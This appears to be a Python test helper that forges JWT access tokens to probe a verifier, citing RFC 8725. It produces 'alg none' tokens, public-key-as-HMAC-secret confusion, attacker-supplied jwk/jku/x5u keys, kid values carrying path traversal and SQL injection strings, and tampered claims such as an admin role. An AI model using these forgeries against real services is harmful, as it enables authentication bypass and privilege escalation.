"""Forged access tokens. PyJWT and cryptography make them, so what is forged is a token in every other respect."""

from __future__ import annotations

import json
import time
import warnings
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import jwt
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import HMACAlgorithm, OKPAlgorithm
from jwt.utils import base64url_decode, base64url_encode

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

ELSEWHERE = "https://keys.attack.invalid/jwks.json"
"""Where nobody is (RFC 6761 section 6.4)."""


class _AnySecret(HMACAlgorithm):
    """HMAC with any bytes: PyJWT itself refuses a public key as a secret."""

    def prepare_key(self, key: str | bytes) -> bytes:
        return key.encode() if isinstance(key, str) else key


@dataclass(frozen=True)
class Parts:
    """A genuine token, taken apart; it was never verified, and need not be."""

    header: dict[str, Any]
    claims: dict[str, Any]
    encoded: tuple[str, str, str]


def parts_of(token: str) -> Parts:
    """The parts of a token. Raises ValueError if it is no JWT."""
    try:
        claims = jwt.decode(token, options={"verify_signature": False})
        header = jwt.get_unverified_header(token)
    except jwt.PyJWTError as error:
        raise ValueError(f"the access token is no JWT: {error}") from None
    first, second, third = token.split(".")
    return Parts(header, claims, (first, second, third))


def fresh(claims: Mapping[str, Any]) -> dict[str, Any]:
    """The claims under another identifier, so that nothing remembers a token like it."""
    now = int(time.time())
    return {**claims, "iat": now, "exp": now + 600, "jti": "attack"}


def without_signature(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    """A token that nobody has signed."""
    return f"{_encoded(header)}.{_encoded(claims)}."


def unsigned(parts: Parts) -> Iterator[tuple[str, str]]:
    """Tokens without a signature, RFC 8725 section 2.1: what each is, and the token."""
    payload = _encoded(fresh(parts.claims))
    for name in ("none", "None", "NONE", "nOnE"):
        yield f"alg {name}", f"{_encoded({**parts.header, 'alg': name})}.{payload}."
    first, _, third = parts.encoded
    yield "alg none with a signature", f"{_encoded({**parts.header, 'alg': 'none'})}.{payload}.{third}"
    yield "no signature", f"{first}.{payload}."
    yield "no third part", f"{first}.{payload}"
    yield "no algorithm", f"{_encoded({'typ': parts.header.get('typ')})}.{payload}."


def confused(parts: Parts, keys: list[dict[str, Any]]) -> Iterator[tuple[str, str]]:
    """Tokens whose HMAC secret is a public key of the key set, in each form that a server may have it in."""
    claims = fresh(parts.claims)
    for key in keys:
        header = {**parts.header, "kid": key.get("kid")}
        for form, secret in _forms(key):
            for algorithm in ("HS256", "HS512"):
                yield f"{algorithm} with {form}", _by_secret(claims, header, secret, algorithm)
    yield "HS256 with an empty secret", _by_secret(claims, parts.header, b"", "HS256")


def carrying_a_key(parts: Parts) -> Iterator[tuple[str, str]]:
    """Tokens of a stranger's key that bring the key, or say where it is (RFC 8725 section 3.10)."""
    key = Ed25519PrivateKey.generate()
    public = OKPAlgorithm.to_jwk(key.public_key(), as_dict=True)
    kid = parts.header.get("kid")
    for name, more in (
        ("jwk", {"jwk": {**public, "kid": kid}}),
        ("jwk under a name of its own", {"jwk": {**public, "kid": "attack"}, "kid": "attack"}),
        ("jku", {"jku": ELSEWHERE}),
        ("x5u", {"x5u": ELSEWHERE}),
        ("x5c", {"x5c": [base64url_encode(b"no certificate").decode()]}),
        ("jku and no kid", {"jku": ELSEWHERE, "kid": None}),
    ):
        yield name, _by_stranger(fresh(parts.claims), {**parts.header, **more}, key)


def with_odd_kid(parts: Parts) -> Iterator[tuple[str, str]]:
    """Tokens whose `kid` is a path, a query or no text at all (RFC 8725 section 3.10)."""
    claims, key = fresh(parts.claims), Ed25519PrivateKey.generate()
    for kid in (
        "../../../../../../dev/null", "/dev/null", "' UNION SELECT '", "' OR '1'='1", "\x00", "", "k" * 2000,
        f"{parts.header.get('kid')}\x00", ELSEWHERE,
    ):  # fmt: skip
        header = {**parts.header, "kid": kid}
        yield f"kid {kid[:30]!r} and an empty secret", _by_secret(claims, header, b"", "HS256")
        yield f"kid {kid[:30]!r} and a stranger's key", _by_stranger(claims, header, key)
    for odd in ({"$ne": ""}, ["a"], 7, True):
        header = {**parts.header, "kid": odd}
        yield f"kid {odd!r}", f"{_encoded(header)}.{_encoded(claims)}.{parts.encoded[2]}"


def tampered(parts: Parts) -> Iterator[tuple[str, str]]:
    """The genuine token with other claims, and written in other ways."""
    first, second, third = parts.encoded
    for name, more in (
        ("another subject", {"sub": "00000000-0000-4000-8000-000000000000"}),
        ("the role admin", {"roles": ["admin"]}),
        ("a later end", {"exp": parts.claims.get("exp", 0) + 86_400}),
    ):
        yield name, f"{first}.{_encoded({**parts.claims, **more})}.{third}"
    yield "a cut signature", f"{first}.{second}.{third[:-4]}"
    yield "a critical extension", f"{_encoded({**parts.header, 'crit': ['attack'], 'attack': 1})}.{second}.{third}"
    yield (
        "a payload that is not encoded",
        f"{_encoded({**parts.header, 'b64': False, 'crit': ['b64']})}.{second}.{third}",
    )
    yield "a fourth part", f"{first}.{second}.{third}.{third}"


def of_a_stranger(parts: Parts) -> Iterator[tuple[str, str]]:
    """Tokens of a stranger's key under the name of the genuine one, each with one more thing wrong."""
    key = Ed25519PrivateKey.generate()
    now = int(time.time())
    for name, more in (
        ("nothing else", {}),
        ("an end in the past", {"iat": now - 7200, "exp": now - 3600}),
        ("no end", {"exp": None}),
        ("a begin in the future", {"nbf": now + 3600}),
        ("another issuer", {"iss": "https://issuer.attack.invalid"}),
        ("another audience", {"aud": "https://audience.attack.invalid"}),
    ):
        claims = {name: value for name, value in {**fresh(parts.claims), **more}.items() if value is not None}
        yield f"a stranger's key and {name}", _by_stranger(claims, {**parts.header, "alg": "EdDSA"}, key)
    for kind in ("JWT", "refresh+jwt", "id+jwt", "logout+jwt", "dpop+jwt"):
        header = _encoded({**parts.header, "typ": kind})
        yield f"the type {kind}", f"{header}.{parts.encoded[1]}.{parts.encoded[2]}"


def _forms(key: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """A public key in the forms in which servers hold it."""
    yield "its JWK", json.dumps(key, separators=(",", ":")).encode()
    for member in ("x", "n"):
        if isinstance(key.get(member), str):
            yield f"its {member}", base64url_decode(key[member])
    try:
        public: Any = jwt.PyJWK(key).key
        pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    except (jwt.PyJWTError, ValueError, AttributeError):
        return
    yield "its PEM", pem
    yield "its PEM without the last line's end", pem.rstrip(b"\n")
    yield "its DER", der


def _by_secret(claims: Mapping[str, Any], header: Mapping[str, Any], secret: bytes, algorithm: str) -> str:
    signer = jwt.PyJWS()
    signer.unregister_algorithm(algorithm)
    digest = HMACAlgorithm.SHA256 if algorithm == "HS256" else HMACAlgorithm.SHA512
    signer.register_algorithm(algorithm, _AnySecret(digest))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the secret is a bad one: that is the point
        return signer.encode(json.dumps(claims).encode(), secret, algorithm, headers=_plain(header, algorithm))


def _by_stranger(claims: Mapping[str, Any], header: Mapping[str, Any], key: Ed25519PrivateKey) -> str:
    return jwt.PyJWS().encode(json.dumps(claims).encode(), key, "EdDSA", headers=_plain(header, "EdDSA"))


def _plain(header: Mapping[str, Any], algorithm: str) -> dict[str, Any]:
    return {name: value for name, value in {**header, "alg": algorithm}.items() if value is not None}


def _encoded(part: Mapping[str, Any]) -> str:
    return base64url_encode(json.dumps(part, separators=(",", ":")).encode()).decode()
